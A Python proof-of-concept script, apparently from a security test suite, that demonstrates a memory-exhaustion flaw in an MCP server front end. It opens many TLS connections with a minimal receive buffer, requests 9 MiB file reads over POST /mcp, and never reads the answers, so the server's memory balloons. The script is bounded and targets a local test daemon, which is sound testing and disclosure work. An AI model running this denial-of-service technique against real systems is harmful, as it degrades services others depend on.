"""Flaw (high, SPEC §1.7/§1.4): POST /mcp answers sent as JSON that the client never reads are held
by the front in full, outside any per-session, per-principal or total byte bound; only the
connection caps (1024 per address, 4096 in all) and the TLS close timeout (~35 s after the answer)
limit them. Measured: 16 unread 9 MiB answers on one session made the front's RSS grow 51 -> 427 MiB.

Start a daemon: python attacks13/_daemon.py /tmp/a13d3; then: A13_STATE=/tmp/a13d3 python THIS [N]
(bounded: N connections, default 16, closed after 20 s)."""
import json, os, socket, ssl, sys, time
from pathlib import Path
sys.path.insert(0, str(Path(__file__).parent))
from _probe import C, client, session

pid = C["pid"]
rss = lambda: int([x for x in open(f"/proc/{pid}/status") if x.startswith("VmRSS")][0].split()[1]) // 1024
host, port = C["url"][8:].split(":")
n = int(sys.argv[1]) if len(sys.argv) > 1 else 16
big = Path("/tmp/a13-big.txt")
big.write_bytes((b"x" * 99 + b"\n") * (9 * 1024 * 1024 // 100))
with client() as c:
    sid = session(c)
print("front RSS before (MiB):", rss())
conns = []
for i in range(n):
    body = json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {
        "name": "files/read", "arguments": {"path": str(big), "offset": 0, "limit": 9 * 1024 * 1024}}}).encode()
    raw = socket.socket()
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.connect((host, int(port)))
    s = ssl.create_default_context(cafile=C["cacert"]).wrap_socket(raw, server_hostname="127.0.0.1")
    s.sendall((f"POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {C['token']}\r\nContent-Type: application/json\r\n"
               f"Accept: application/json\r\nMcp-Session-Id: {sid}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body)
    conns.append(s)
for t in range(4):
    time.sleep(5)
    print(f"t={5 * (t + 1)}s front RSS (MiB):", rss(), flush=True)
for s in conns:
    s.close()
print("FLAW if RSS grew by about 20 MiB per unread answer")
